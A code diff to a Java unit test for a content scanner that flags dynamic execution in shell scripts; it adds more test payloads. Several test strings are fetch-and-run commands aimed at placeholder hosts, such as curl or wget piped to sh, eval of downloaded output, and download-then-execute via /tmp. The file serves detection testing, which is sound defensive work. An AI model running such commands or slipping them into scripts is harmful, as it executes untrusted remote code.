@@ -385,12 +385,14 @@ class ContentSignalsTest {
         assertFalse(scan("bin/NOTES", "plain text\n").contains(RiskFlag.CODE));
         for (String payload : List.of("curl -s https://evil.example/x | sh", "wget -qO- https://e.example/i | sudo bash",
                 "echo aGVsbG8= | base64 -d | sh", "base64 --decode p.txt | /bin/bash", "eval \"$(curl -s https://e.example)\"",
-                "eval `wget -qO- https://e.example`")) {
+                "eval `wget -qO- https://e.example`", "wget -q -O /tmp/x https://e.example/x && sh /tmp/x",
+                "curl -so /tmp/i https://e.example/i; bash /tmp/i", "curl -o x https://e.example/x && chmod +x x")) {
             byte[] b = ("#!/bin/sh\n" + payload + "\n").getBytes(StandardCharsets.UTF_8);
             assertTrue(ContentSignals.scan("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
             assertTrue(ContentSignals.whole("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
         }
         for (String quiet : List.of("curl -o out.tgz https://e.example/x.tgz", "echo $(date) | tee log",
+                "curl -o out.tgz https://e.example/x.tgz && tar xzf out.tgz", "wget https://e.example/a.txt; shasum a.txt",
                 "exec /usr/bin/git \"$@\"", "base64 -d in > out")) {
             byte[] b = ("#!/bin/sh\n" + quiet + "\n").getBytes(StandardCharsets.UTF_8);
             assertFalse(ContentSignals.scan("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), quiet);
